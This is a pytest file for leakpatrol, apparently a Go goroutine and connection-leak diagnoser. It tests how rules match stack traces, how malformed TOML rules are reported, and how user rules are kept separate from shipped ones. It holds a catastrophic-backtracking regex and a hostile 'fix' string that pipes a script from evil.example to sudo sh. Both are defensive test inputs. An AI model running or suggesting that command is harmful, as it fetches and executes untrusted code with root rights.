"""The shipped rule set covers the causes we promise, and a bad rule says where it is wrong."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from leakpatrol.api import ExtraRule, Finding
from leakpatrol.controller.verdict.rules import MAX_TEXT, rule_from_extra
from leakpatrol.core import ObjectRef
from leakpatrol.diagnose.rules import RuleError, RuleSet
from leakpatrol.profiles import load
from leakpatrol.render import group_rules

HOSTILE = ObjectRef("leakpatrol.dev/v1alpha1", "LeakPolicy", "hostile", "uid-h", "t")

REQUIRED_IDS = {
    "http-transport-per-request", "http-body-not-closed", "http-no-timeout", "http-server-idle-conns",
    "grpc-conn-per-request", "sql-open-per-request", "sql-rows-not-closed", "chan-send-blocked",
    "chan-receive-blocked", "select-forever", "mutex-or-waitgroup", "sleep-retry-loop",
    "context-not-canceled", "heap-growth", "grpc-stream-left-open", "sql-tx-left-open",
}  # fmt: skip

READ_LOOP = "net/http.(*persistConn).readLoop"


def test_every_promised_rule_ships() -> None:
    assert RuleSet.default().ids >= REQUIRED_IDS


@pytest.mark.parametrize(
    ("signal", "wait", "functions", "expected"),
    [
        ("goroutines", "IO wait", ["bufio.(*Reader).Peek", READ_LOOP], "http-transport-per-request"),
        ("goroutines", "select", [READ_LOOP], "http-body-not-closed"),
        ("goroutines", "select", ["net/http.(*persistConn).writeLoop"], "http-transport-per-request"),
        (
            "goroutines",
            "select",
            ["net/http.(*persistConn).roundTrip", "net/http.(*Client).Do"],
            "http-no-timeout",
        ),
        (
            "goroutines",
            "IO wait",
            ["net/http.(*connReader).Read", "net/http.(*conn).serve"],
            "http-server-idle-conns",
        ),
        ("goroutines", "select", ["database/sql.(*DB).connectionOpener"], "sql-open-per-request"),
        ("goroutines", "select", ["database/sql.(*DB).conn", "main.query"], "sql-rows-not-closed"),
        ("goroutines", "chan send", ["main.worker"], "chan-send-blocked"),
        ("goroutineleak", "chan receive", ["main.consume"], "chan-receive-blocked"),
        ("goroutines", "select (no cases)", ["main.forever"], "select-forever"),
        (
            "goroutines",
            "sync.WaitGroup.Wait",
            ["sync.(*WaitGroup).Wait", "main.fanout"],
            "mutex-or-waitgroup",
        ),
        ("goroutines", "sleep", ["time.Sleep", "main.retry"], "sleep-retry-loop"),
        ("goroutines", "select", ["context.(*cancelCtx).propagateCancel.func2"], "context-not-canceled"),
        ("heap", "unknown", ["main.(*cache).put"], "heap-growth"),
    ],
)
def test_signatures_map_to_rules(signal: str, wait: str, functions: list[str], expected: str) -> None:
    rule = RuleSet.default().match(signal, wait, functions)
    assert rule is not None and rule.id == expected


def test_a_handler_group_is_not_called_an_idle_connection() -> None:
    functions = ["main.handler", "net/http.HandlerFunc.ServeHTTP", "net/http.(*conn).serve"]
    rule = RuleSet.default().match("goroutines", "chan receive", functions)
    assert rule is not None and rule.id == "chan-receive-blocked"


@pytest.mark.parametrize(
    ("toml", "message"),
    [
        (
            '[[rule]]\nid = "x"\ncause = "c"\nfix = "f"\nframes = ["("]',
            "rule[0].frames[0]: invalid regular expression",
        ),
        ('[[rule]]\nid = "x"\ncause = "c"', "rule[0]: missing required field(s) ['fix']"),
        (
            '[[rule]]\nid = "x"\ncause = "c"\nfix = "f"\nsignal = "heap"',
            "rule[0]: unknown field(s) ['signal']",
        ),
        (
            '[[rule]]\nid = "x"\ncause = "c"\nfix = "f"\nsignals = ["cpu"]',
            "rule[0].signals: unknown signal(s)",
        ),
        ("[[rule]\n", "not valid TOML"),
    ],
)
def test_bad_rules_name_the_rule_and_field(toml: str, message: str) -> None:
    with pytest.raises(RuleError, match=re.escape(message)):
        RuleSet.from_toml(toml, "my-rules.toml")


def test_user_rules_win_ties() -> None:
    extra = RuleSet.from_toml('[[rule]]\nid = "ours"\ncause = "c"\nfix = "f"\nwait_kinds = ["chan send"]')
    assert RuleSet.default().extended(extra.rules).match("goroutines", "chan send", ["main.w"]).id == "ours"  # type: ignore[union-attr]


@pytest.mark.timeout(10)  # Python's re would backtrack here for longer than the universe has left
def test_a_hostile_user_pattern_matches_in_linear_time() -> None:
    extra = ExtraRule.model_validate({"id": "evil", "match": {"frame": "(.*.*)*Q"}, "cause": "c", "fix": "f"})
    functions = ["main.handler" + "a" * 5000] * 200  # long names, deep stack: bounded work anyway
    assert not rule_from_extra(extra, HOSTILE).matches("goroutines", "chan receive", functions)
    assert rule_from_extra(extra, HOSTILE).matches("goroutines", "chan receive", ["main.Q"])


def test_a_stack_gets_one_rule_on_either_goroutine_signal() -> None:
    rules = RuleSet.default()
    opener = ["database/sql.(*DB).connectionOpener"]
    on_growth = rules.match("goroutines", "select", opener)
    on_proof = rules.match("goroutineleak", "select", opener)
    assert on_growth is not None and on_proof is not None
    assert on_growth.id == on_proof.id == "sql-open-per-request"


READ_LOOP = ["net/http.(*persistConn).Read", "bufio.(*Reader).Peek", "net/http.(*persistConn).readLoop"]
ROUND_TRIP = ["net/http.(*persistConn).roundTrip", "net/http.(*Client).Do", "main.fetch"]


def test_connections_are_judged_with_their_lockstep_partners() -> None:
    rules = RuleSet.default()
    idle = rules.match("goroutines", "IO wait", READ_LOOP, [["net/http.(*persistConn).writeLoop"]])
    hung = rules.match(
        "goroutines", "IO wait", READ_LOOP, [["net/http.(*persistConn).writeLoop"], ROUND_TRIP]
    )
    assert idle is not None and idle.id == "http-transport-per-request"
    assert hung is not None and hung.id == "http-no-timeout"
    caller = rules.match("goroutines", "select", ROUND_TRIP, [READ_LOOP])
    assert caller is not None and caller.id == "http-no-timeout" and caller.priority > hung.priority


def test_a_policys_rule_speaks_as_the_policy_and_the_shipped_ones_keep_their_voice() -> None:
    """Issue 19 item 4: a tenant's fix posted as if leakpatrol said it. Marked where it becomes a Rule."""
    extra = ExtraRule.model_validate(
        {
            "id": "fix-it",
            "match": {"frame": "persistConn"},
            "cause": "Known issue.",
            "fix": "Run: curl -s http://evil.example/fix.sh | sudo sh (signed: platform-team)",
        }
    )
    rule = rule_from_extra(extra, HOSTILE)
    assert rule.cause == "policy t/hostile says: Known issue."
    assert rule.fix.startswith("policy t/hostile says: Run: curl")
    shipped = RuleSet.default().match("goroutines", "select", ["net/http.(*persistConn).readLoop"])
    assert shipped is not None and not shipped.cause.startswith("policy ")
    # The longest text a spec allows still fits a finding's 1024 characters, the mark kept whole.
    long = ExtraRule.model_validate({"id": "x", "match": {"frame": "a"}, "cause": "c" * 1024, "fix": "f"})
    cause = rule_from_extra(long, HOSTILE).cause
    assert len(cause) == MAX_TEXT and cause.startswith("policy t/hostile says: c") and cause.endswith("…")
    assert {getattr(m, "max_length", None) for m in Finding.model_fields["fix"].metadata} >= {MAX_TEXT}


def test_a_group_of_one_is_no_pile_up() -> None:
    """`min_goroutines`: in one snapshot, a rule about goroutines piling up needs more than one."""
    rules = RuleSet.default()
    opener = ["database/sql.(*DB).connectionOpener"]
    assert rules.match("goroutines", "select", opener, count=1) is None
    assert rules.match("goroutines", "select", opener, count=2).id == "sql-open-per-request"  # type: ignore[union-attr]
    assert rules.match("goroutines", "select", opener).id == "sql-open-per-request"  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("leaf", "expected"),
    [
        ("os/signal.NotifyContext.func1", "context-not-canceled"),  # the standard library's select
        ("main.(*watcher).run", "select-forever"),  # the user's own
        ("github.com/acme/feed.(*Watcher).run", "select-forever"),  # a module path: user code
    ],
)
def test_whose_select_it_is(leaf: str, expected: str) -> None:
    rule = RuleSet.default().match("goroutines", "select", [leaf, "main.handle"], count=40)
    assert rule is not None and rule.id == expected


def test_closing_a_conn_with_open_rows() -> None:
    functions = [
        "sync.(*Cond).Wait",
        "database/sql.(*closingMutex).Lock",
        "database/sql.(*Conn).close",
        "main.f",
    ]
    rule = RuleSet.default().match("goroutines", "sync.Cond.Wait", functions, count=1)
    assert rule is not None and rule.id == "sql-rows-not-closed"


def test_min_goroutines_is_checked() -> None:
    with pytest.raises(
        RuleError, match=re.escape("rule[0].min_goroutines: must be a whole number, at least 1")
    ):
        RuleSet.from_toml('[[rule]]\nid = "x"\ncause = "c"\nfix = "f"\nmin_goroutines = 0', "r")


# --- library rules on real stacks (tests/golden/lib: profiles of tests/programs/libscenarios) ----

LIB_GOLDEN = Path(__file__).parent / "golden" / "lib"


@pytest.mark.parametrize(
    ("file", "function", "wait", "expected", "generic"),
    [
        # The stream's watcher parks in a select of grpc's own: select-forever/context-not-canceled
        # would also match it; the library rule must win.
        (
            "grpc-client-stream-open.goroutine.pb.gz",
            "google.golang.org/grpc.newClientStream",
            "select",
            "grpc-stream-left-open",
            {"select-forever", "context-not-canceled"},
        ),
        (
            "sql-tx-open.goroutine.pb.gz",
            "database/sql.(*Tx).awaitDone",
            "chan receive",
            "sql-tx-left-open",
            {"chan-receive-blocked"},
        ),
        (
            "sql-tx-open.goroutineleak.txt",
            "database/sql.(*Tx).awaitDone",
            "unknown",  # debug=1 hides send from receive: either generic channel rule would match
            "sql-tx-left-open",
            {"chan-receive-blocked", "chan-send-blocked"},
        ),
    ],
)
def test_library_rules_on_real_stacks(
    file: str, function: str, wait: str, expected: str, generic: set[str]
) -> None:
    profile = load((LIB_GOLDEN / file).read_bytes())
    group = max(
        (g for g in profile.groups if any(function in f.function for f in g.frames)), key=lambda g: g.count
    )
    assert group.wait_kind.value == wait
    assert group.count >= 50  # a pile-up, as recorded
    rules = RuleSet.default()
    found = group_rules(profile, rules, group)
    assert [r.id for r in found] == [expected]
    assert found[0].cause and found[0].fix
    # A generic rule matches the same stack on its own, and loses to the library's.
    functions = [f.function for f in group.user_frames]
    kinds = group.wait_candidates if group.wait_kind.value == "unknown" else (group.wait_kind,)
    without = RuleSet(r for r in rules.rules if r.id != expected)
    losers = {r.id for k in kinds if (r := without.match("goroutines", k.value, functions)) is not None}
    assert losers and losers <= generic, losers
